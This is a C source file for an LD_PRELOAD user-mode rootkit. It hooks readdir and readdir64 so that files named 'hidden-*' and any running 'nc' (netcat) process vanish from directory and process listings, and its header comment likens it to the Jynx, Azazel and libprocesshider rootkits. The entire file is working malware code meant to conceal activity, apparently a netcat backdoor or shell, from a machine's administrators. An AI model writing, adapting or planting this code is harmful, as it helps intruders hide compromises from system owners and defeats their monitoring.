/* Preloaded into every program, hides from them processes whose command has the name in HIDDEN_COMMAND, and files whose
 * names begin with "hidden-": readdir leaves them out. What real user-mode rootkits do (Jynx, Azazel, libprocesshider). */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static const char *const HIDDEN_COMMAND = "nc";

static int is_hidden(const char *name)
{
    char path[64], command[32] = "";
    if (strncmp(name, "hidden-", 7) == 0)
        return 1;
    if (!isdigit((unsigned char)name[0]))
        return 0;
    snprintf(path, sizeof path, "/proc/%.20s/comm", name);
    int file = open(path, O_RDONLY | O_CLOEXEC);
    if (file < 0)
        return 0;
    if (read(file, command, sizeof command - 1) < 0)
        command[0] = 0;
    close(file);
    command[strcspn(command, "\n")] = 0;
    return strcmp(command, HIDDEN_COMMAND) == 0;
}

struct dirent *readdir(DIR *folder)
{
    static struct dirent *(*real)(DIR *);
    if (!real)
        real = (struct dirent * (*)(DIR *)) dlsym(RTLD_NEXT, "readdir");
    struct dirent *entry;
    while ((entry = real(folder)) && is_hidden(entry->d_name))
        ;
    return entry;
}

struct dirent64 *readdir64(DIR *folder)
{
    return (struct dirent64 *)readdir(folder);
}
